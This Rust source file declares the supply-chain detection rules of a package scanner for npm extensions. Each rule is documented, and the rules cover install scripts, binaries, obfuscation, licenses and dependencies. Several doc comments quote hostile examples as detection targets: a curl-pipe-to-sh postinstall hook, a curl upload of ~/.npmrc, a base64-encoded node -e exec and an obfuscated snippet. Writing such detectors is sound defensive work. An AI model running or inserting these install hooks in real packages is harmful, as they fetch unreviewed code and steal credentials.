//! Every `supply-chain/...` rule, declared once with [`declare_rule!`]: the doc comment is the
//! rule's user documentation (ruff-style), and the declared signals are what the gate reads.

use portcullis_core::declare_rule;
use portcullis_core::rule::Rule;
use portcullis_core::{Finding, Location, Severity};

declare_rule! {
    /// ## What it does
    /// Flags npm lifecycle scripts (`preinstall`, `install`, `postinstall`, `prepare`, …) that download
    /// something (`curl`, `wget`, `Invoke-WebRequest`) and execute it (`| sh`, `| node`, `chmod +x && ./x`).
    ///
    /// ## Why is this bad?
    /// Lifecycle scripts run automatically with the installing user's privileges the moment the
    /// package is installed — on the n8n / Node-RED host, in CI, on a developer laptop. Code fetched at
    /// install time is never part of the reviewed package and can change at any moment: this is the
    /// delivery mechanism of most npm malware (`ua-parser-js`, `coa`, `rc` compromises).
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "postinstall": "curl -s https://cdn.example.net/setup.sh | sh" } }
    /// ```
    ///
    /// Use instead: ship the code in the package (so it is reviewed and hashed) and do not run it at
    /// install time; if a binary is needed, publish per-platform optional dependencies.
    ///
    /// ## References
    /// - CWE-494: Download of Code Without Integrity Check
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    /// - https://docs.npmjs.com/cli/using-npm/scripts
    pub static INSTALL_DOWNLOAD_EXEC = {
        id: "supply-chain/install-script-download-exec",
        title: "Install script downloads and executes code",
        category: SupplyChain,
        severity: Critical,
        confidence: High,
        summary: "An npm lifecycle script fetches remote content and runs it.",
        cwe: [494, 829],
        signals: [DownloadExecute, InstallTimeExecution, LifecycleScript],
    }
}

declare_rule! {
    /// ## What it does
    /// Flags lifecycle scripts that call `curl`, `wget`, `Invoke-WebRequest` or similar without
    /// (visibly) executing the result.
    ///
    /// ## Why is this bad?
    /// A download at install time brings unreviewed content onto the host, and the same commands
    /// exfiltrate data (`curl -d @~/.npmrc …`). Installs should be reproducible from the reviewed
    /// tarball alone; many platform hosts (n8n, Node-RED) install extensions on production servers.
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "install": "wget -q https://example.net/model.bin -O model.bin" } }
    /// ```
    ///
    /// Use instead: include the asset in the package, or fetch it lazily at run time through the
    /// platform's declared, reviewable HTTP helpers.
    ///
    /// ## References
    /// - CWE-494: Download of Code Without Integrity Check
    /// - https://docs.npmjs.com/cli/using-npm/scripts
    pub static INSTALL_NETWORK = {
        id: "supply-chain/install-script-network",
        title: "Install script uses the network",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "An npm lifecycle script downloads or sends data at install time.",
        cwe: [494],
        signals: [InstallTimeExecution, LifecycleScript],
    }
}

declare_rule! {
    /// ## What it does
    /// Flags lifecycle scripts that run code given on the command line — `node -e`, `node -p`,
    /// `python -c`, `perl -e`, `powershell -EncodedCommand`, `eval`, `base64 -d | sh`.
    ///
    /// ## Why is this bad?
    /// Inline code hides the payload from file-based review and from the JS analyzer, and encoded
    /// payloads exist only to avoid being read. Legitimate packages put install logic in a file.
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "preinstall": "node -e \"require('child_process').exec(Buffer.from('Y3VybC…','base64').toString())\"" } }
    /// ```
    ///
    /// Use instead: move the logic into a file in the package (e.g. `scripts/setup.js`), keep it small
    /// and readable, or remove the install hook.
    ///
    /// ## References
    /// - CWE-95: Eval Injection
    /// - CWE-506: Embedded Malicious Code
    pub static INSTALL_INLINE_CODE = {
        id: "supply-chain/install-script-inline-code",
        title: "Install script runs inline code",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "An npm lifecycle script evaluates inline or encoded code (`node -e`, `base64 -d | sh`).",
        cwe: [95, 506],
        signals: [LifecycleScript],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports every npm lifecycle script (`preinstall`, `install`, `postinstall`, `prepare`,
    /// `preuninstall`, `postuninstall`, …) that is not a download, inline code or a native build, and
    /// summarises what it runs. When the script runs a file of the package, that file is read and the
    /// finding lists what it touches: network modules, `child_process`, `process.env`, file writes,
    /// dynamic code, credential paths (`.npmrc`, `.ssh`). Known-harmless tools (`husky install`,
    /// `patch-package`, `tsc`) are reported at low severity; exact commands listed in
    /// `[supply-chain] allowed-scripts` are not reported.
    ///
    /// ## Why is this bad?
    /// Install scripts run automatically with the installer's privileges, before anyone uses the
    /// extension. The n8n community-node rules forbid them outright
    /// (`no-forbidden-lifecycle-scripts`). A script that combines network access with environment or
    /// credential reads at install time is the classic token-stealer.
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "postinstall": "node scripts/telemetry.js" } }
    /// ```
    ///
    /// Use instead: remove the hook; do set-up lazily at first use, in reviewed code.
    ///
    /// ## References
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    /// - https://docs.npmjs.com/cli/using-npm/scripts
    pub static INSTALL_SCRIPT = {
        id: "supply-chain/install-script",
        title: "Install-time lifecycle script",
        category: SupplyChain,
        severity: Medium,
        confidence: High,
        summary: "The package runs a lifecycle script when it is installed; the finding summarises what it runs.",
        cwe: [829],
        signals: [LifecycleScript],
    }
}

declare_rule! {
    /// ## What it does
    /// Flags `node-gyp rebuild`, `prebuild-install`, `node-pre-gyp install`, `cmake-js` in lifecycle
    /// scripts, and a `binding.gyp` without an `install` script (npm then runs `node-gyp rebuild`
    /// implicitly).
    ///
    /// ## Why is this bad?
    /// Native addons run outside the JavaScript security model, need a compiler toolchain on the
    /// host, and `prebuild-install` / `node-pre-gyp` download prebuilt binaries from URLs in
    /// `package.json` — unreviewed native code. Usually legitimate, but it must be a conscious choice.
    ///
    /// ## Example
    /// ```json
    /// { "scripts": { "install": "prebuild-install || node-gyp rebuild" } }
    /// ```
    ///
    /// Use instead: prefer a pure-JS or WebAssembly implementation; otherwise pin the prebuilt
    /// binaries' hashes and review the addon source.
    ///
    /// ## References
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    /// - https://github.com/nodejs/node-gyp
    pub static INSTALL_NATIVE_BUILD = {
        id: "supply-chain/install-script-native-build",
        title: "Native build at install time",
        category: SupplyChain,
        severity: Low,
        confidence: High,
        summary: "The package compiles or downloads a native addon at install time (node-gyp, prebuild-install).",
        cwe: [829],
        signals: [LifecycleScript],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports every file whose content is an executable object (ELF, PE, Mach-O — including fat
    /// binaries), a Node.js native addon (`.node`) or a WebAssembly module, whatever its name.
    ///
    /// ## Why is this bad?
    /// Compiled code cannot be reviewed like source, is not covered by the JS analyzer, and may not
    /// match any public source. A `.node` addon runs inside the platform process with full native
    /// privileges; an executable can be spawned at any time.
    ///
    /// ## Example
    /// `build/Release/acme.node`, `bin/helper-linux-x64`, `lib/index.js` that is really an ELF file.
    ///
    /// Use instead: ship JavaScript, or build the binary reproducibly from reviewed source and record
    /// its hash; keep platform binaries in separate, signed optional packages.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    pub static NATIVE_BINARY = {
        id: "supply-chain/native-binary",
        title: "Bundled native binary",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "The package ships compiled native code (ELF, PE, Mach-O, .node addon or WebAssembly).",
        cwe: [506],
        signals: [NativeBinary],
    }
}

declare_rule! {
    /// ## What it does
    /// Flags files shipped with the executable bit that are not a `#!` script and not a recognised
    /// binary format (those are `supply-chain/native-binary`).
    ///
    /// ## Why is this bad?
    /// An executable bit on a data file is either a packaging accident or a payload in an unusual
    /// format waiting to be launched (`chmod` is not needed later). Either way a reviewer should look.
    ///
    /// ## Example
    /// `assets/logo.dat` with mode `0755`.
    ///
    /// Use instead: clear the executable bit (`chmod -x`) on everything that is not meant to run.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    pub static EXECUTABLE_FILE = {
        id: "supply-chain/executable-file",
        title: "Executable non-script file",
        category: SupplyChain,
        severity: Medium,
        confidence: High,
        summary: "A file with the executable bit is neither a recognised binary nor a `#!` script.",
        cwe: [506],
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Flags files whose content is an archive (zip, gzip, tar, 7z, rar, xz, zstd, bzip2, cab).
    ///
    /// ## Why is this bad?
    /// Ingest unpacks only the outer package; a nested archive hides its files from every analyzer
    /// and can be unpacked and executed at run time.
    ///
    /// ## Example
    /// `vendor/runtime.tgz` extracted by the node at start-up.
    ///
    /// Use instead: ship the files unpacked so they are scanned, or depend on the package properly.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    pub static NESTED_ARCHIVE = {
        id: "supply-chain/nested-archive",
        title: "Nested archive",
        category: SupplyChain,
        severity: Medium,
        confidence: High,
        summary: "The package ships an archive (zip, tar, gzip, 7z, …) whose content is not reviewed.",
        cwe: [506],
        signals: [UnanalysedCode],
    }
}

declare_rule! {
    /// ## What it does
    /// Checks every `bin` entry of `package.json`: the target must exist in the package and be a
    /// JavaScript file (or a `#!/usr/bin/env node` script). A binary target is high severity; a shell
    /// script or a missing file is medium.
    ///
    /// ## Why is this bad?
    /// npm links `bin` entries onto the user's `PATH`. A native binary there runs unreviewed code with
    /// a trusted-looking command name; a missing target points at a file created at install time.
    ///
    /// ## Example
    /// ```json
    /// { "bin": { "acme": "./bin/acme-linux-x64" } }
    /// ```
    ///
    /// Use instead: point `bin` at a small JS entry script in the package.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - https://docs.npmjs.com/cli/configuring-npm/package-json#bin
    pub static BIN_NOT_JS = {
        id: "supply-chain/bin-not-javascript",
        title: "`bin` entry is not JavaScript",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "A `package.json` `bin` command points at a binary, a non-JS script or a missing file.",
        cwe: [506],
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports JS files that are minified: an average line length above
    /// `[supply-chain] minified-avg-line-length` (300), or very long lines with little whitespace.
    ///
    /// ## Why is this bad?
    /// Minified code is legitimate for browser bundles but hard to review, and it lowers the precision
    /// of line-based findings. Server-side extensions (n8n nodes, Node-RED nodes) rarely need it.
    ///
    /// ## Example
    /// `dist/index.js` as one 400 KB line.
    ///
    /// Use instead: publish readable build output with a source map, or the unminified sources.
    ///
    /// ## References
    /// - https://developer.chrome.com/docs/webstore/program-policies/code-readability
    pub static MINIFIED = {
        id: "supply-chain/minified-code",
        title: "Minified code shipped as source",
        category: SupplyChain,
        severity: Info,
        confidence: High,
        summary: "A JavaScript file is minified (very long lines, little whitespace).",
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Detects obfuscation, as opposed to minification: `_0x1a2b`-style identifiers and the
    /// string-array rotation of javascript-obfuscator, Dean Edwards' packer
    /// (`eval(function(p,a,c,k,e,d)…`), dense `\x..`/`\u....` escapes, JSFuck (`[]+!()` only),
    /// `String.fromCharCode` chains and `eval(atob(…))`-style decode-and-run. Large files are sampled.
    ///
    /// ## Why is this bad?
    /// Obfuscation has one purpose: to stop a reader from understanding the code. Registries (Chrome
    /// Web Store, Mozilla add-ons) forbid it; in npm malware it hides credential theft and droppers.
    ///
    /// ## Example
    /// ```js
    /// var _0x3f2a=['\x68\x74\x74\x70'];(function(_0x1,_0x2){while(--_0x2){_0x1['push'](_0x1['shift']());}})(_0x3f2a,0x1b3);
    /// ```
    ///
    /// Use instead: ship readable code. If a vendor insists on obfuscation, require the source under
    /// NDA and review it.
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - https://developer.chrome.com/docs/webstore/program-policies/code-readability
    pub static OBFUSCATED = {
        id: "supply-chain/obfuscated-code",
        title: "Obfuscated code",
        category: SupplyChain,
        severity: High,
        confidence: High,
        summary: "A JavaScript file shows obfuscation (`_0x…` names, string-array rotation, packers, escapes, JSFuck).",
        cwe: [506],
        signals: [Obfuscation],
    }
}

declare_rule! {
    /// ## What it does
    /// Parses the root `package.json` and reports where it is invalid (line and column).
    ///
    /// ## Why is this bad?
    /// npm, the platform host and Portcullis may disagree about an invalid manifest: the checks that
    /// depend on it (scripts, dependencies, declared capabilities) cannot be trusted.
    ///
    /// ## Example
    /// ```json
    /// { "name": "n8n-nodes-acme", "scripts": { "postinstall": "node x.js", } }
    /// ```
    ///
    /// Use instead: fix the JSON (`npm pkg fix`, `node -e "JSON.parse(require('fs').readFileSync('package.json'))"`).
    ///
    /// ## References
    /// - CWE-20: Improper Input Validation
    pub static INVALID_MANIFEST = {
        id: "supply-chain/invalid-manifest",
        title: "Invalid package.json",
        category: Manifest,
        severity: High,
        confidence: High,
        summary: "The root `package.json` is not valid JSON or not a JSON object.",
        cwe: [20],
        signals: [UnanalysedCode],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports a `package.json` without a `license` field.
    ///
    /// ## Why is this bad?
    /// Without a license the extension cannot legally be used or redistributed, and governance
    /// (which licenses are allowed) cannot be applied.
    ///
    /// ## Example
    /// ```json
    /// { "name": "node-red-contrib-acme", "version": "1.0.0" }
    /// ```
    ///
    /// Use instead:
    /// ```json
    /// { "name": "node-red-contrib-acme", "version": "1.0.0", "license": "Apache-2.0" }
    /// ```
    ///
    /// ## References
    /// - https://docs.npmjs.com/cli/configuring-npm/package-json#license
    /// - https://spdx.org/licenses/
    pub static MISSING_LICENSE = {
        id: "supply-chain/missing-license",
        title: "Missing license",
        category: Manifest,
        severity: Low,
        confidence: High,
        summary: "`package.json` declares no `license`.",
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Checks `license` against the SPDX license list (shipped with Portcullis) and the SPDX
    /// expression grammar (`AND`, `OR`, `WITH`, parentheses, `+`, `LicenseRef-…`); also accepts
    /// `UNLICENSED` and `SEE LICENSE IN <file>` as npm does. The deprecated object forms
    /// (`{"type": "MIT"}`, `licenses: [...]`) are reported too.
    ///
    /// ## Why is this bad?
    /// License policy tools (and osv-scanner `--licenses`) match SPDX ids; a free-text license such as
    /// `"MIT License"` or `"BSD"` silently escapes them.
    ///
    /// ## Example
    /// ```json
    /// { "license": "Apache 2" }
    /// ```
    ///
    /// Use instead: `"license": "Apache-2.0"`.
    ///
    /// ## References
    /// - https://spdx.org/licenses/
    /// - https://docs.npmjs.com/cli/configuring-npm/package-json#license
    pub static NON_SPDX_LICENSE = {
        id: "supply-chain/non-spdx-license",
        title: "License is not an SPDX expression",
        category: Manifest,
        severity: Low,
        confidence: High,
        summary: "`license` is not a valid SPDX identifier or expression.",
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Checks the specifiers of `dependencies`, `optionalDependencies`, `peerDependencies` and
    /// `devDependencies` in `package.json`. Git URLs and GitHub shorthands (`user/repo`) are high
    /// severity unless pinned to a full commit hash (medium); `http(s)://` tarballs are high;
    /// `file:`/`link:` paths are medium. Transitive entries in lockfiles belong to the `deps`
    /// analyzer.
    ///
    /// ## Why is this bad?
    /// Non-registry dependencies bypass the registry's immutability, integrity hashes, provenance and
    /// advisory databases: a branch or URL can serve different code tomorrow, and OSV cannot match it.
    ///
    /// ## Example
    /// ```json
    /// { "dependencies": { "acme-sdk": "github:acme/sdk#main", "left": "https://example.net/left-1.0.0.tgz" } }
    /// ```
    ///
    /// Use instead: depend on a published registry version (`"acme-sdk": "^2.3.0"`), or pin a git
    /// dependency to a full commit SHA.
    ///
    /// ## References
    /// - CWE-494: Download of Code Without Integrity Check
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    /// - https://docs.npmjs.com/cli/configuring-npm/package-json#git-urls-as-dependencies
    pub static NON_REGISTRY_DEP = {
        id: "supply-chain/non-registry-dependency",
        title: "Dependency from outside the registry",
        category: Dependency,
        severity: High,
        confidence: High,
        summary: "A direct dependency is fetched from git, an HTTP(S) URL, or a local `file:`/`link:` path.",
        cwe: [494, 829],
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports a `package.json` without a `repository` field (string or `{ "type", "url" }`).
    ///
    /// ## Why is this bad?
    /// Without a source repository the published tarball cannot be compared with its source, npm
    /// provenance cannot be linked, and reviewers cannot see history or issues. n8n's verified-node
    /// scanner requires provenance.
    ///
    /// ## Example
    /// ```json
    /// { "name": "n8n-nodes-acme", "version": "1.2.0" }
    /// ```
    ///
    /// Use instead:
    /// ```json
    /// { "repository": { "type": "git", "url": "git+https://github.com/acme/n8n-nodes-acme.git" } }
    /// ```
    ///
    /// ## References
    /// - https://docs.npmjs.com/cli/configuring-npm/package-json#repository
    /// - https://docs.npmjs.com/generating-provenance-statements
    pub static MISSING_REPOSITORY = {
        id: "supply-chain/missing-repository",
        title: "Missing repository",
        category: Manifest,
        severity: Low,
        confidence: High,
        summary: "`package.json` names no source `repository`.",
        signals: [Hygiene],
    }
}

declare_rule! {
    /// ## What it does
    /// Reports a non-empty `bundledDependencies` / `bundleDependencies` in `package.json`.
    ///
    /// ## Why is this bad?
    /// Bundled packages are copied into the tarball's `node_modules/` as the author had them: they may
    /// differ from the registry version of the same name, carry no lockfile integrity, and are easy
    /// to tamper with. Vulnerability matching by name and version may be wrong.
    ///
    /// ## Example
    /// ```json
    /// { "bundledDependencies": ["request"] }
    /// ```
    ///
    /// Use instead: declare normal `dependencies` so the registry copy (and its integrity hash) is used.
    ///
    /// ## References
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    /// - https://docs.npmjs.com/cli/configuring-npm/package-json#bundledependencies
    pub static BUNDLED_DEPS = {
        id: "supply-chain/bundled-dependencies",
        title: "Bundled dependencies",
        category: Dependency,
        severity: Medium,
        confidence: High,
        summary: "`bundledDependencies` ships dependency code inside the tarball instead of resolving it from the registry.",
        cwe: [829],
        signals: [Hygiene],
    }
}

/// Every rule this analyzer reports.
pub static RULES: &[&Rule] = &[
    &INSTALL_DOWNLOAD_EXEC,
    &INSTALL_NETWORK,
    &INSTALL_INLINE_CODE,
    &INSTALL_SCRIPT,
    &INSTALL_NATIVE_BUILD,
    &NATIVE_BINARY,
    &EXECUTABLE_FILE,
    &NESTED_ARCHIVE,
    &BIN_NOT_JS,
    &MINIFIED,
    &OBFUSCATED,
    &INVALID_MANIFEST,
    &MISSING_LICENSE,
    &NON_SPDX_LICENSE,
    &NON_REGISTRY_DEP,
    &MISSING_REPOSITORY,
    &BUNDLED_DEPS,
];

/// A finding of `rule` at `severity` (the analyzer grades some rules per occurrence); id,
/// category, CWEs and signals come from the declaration.
pub fn finding(rule: &Rule, severity: Severity, message: String, location: Location) -> Finding {
    Finding::from_rule(rule, message, location).with_severity(severity)
}
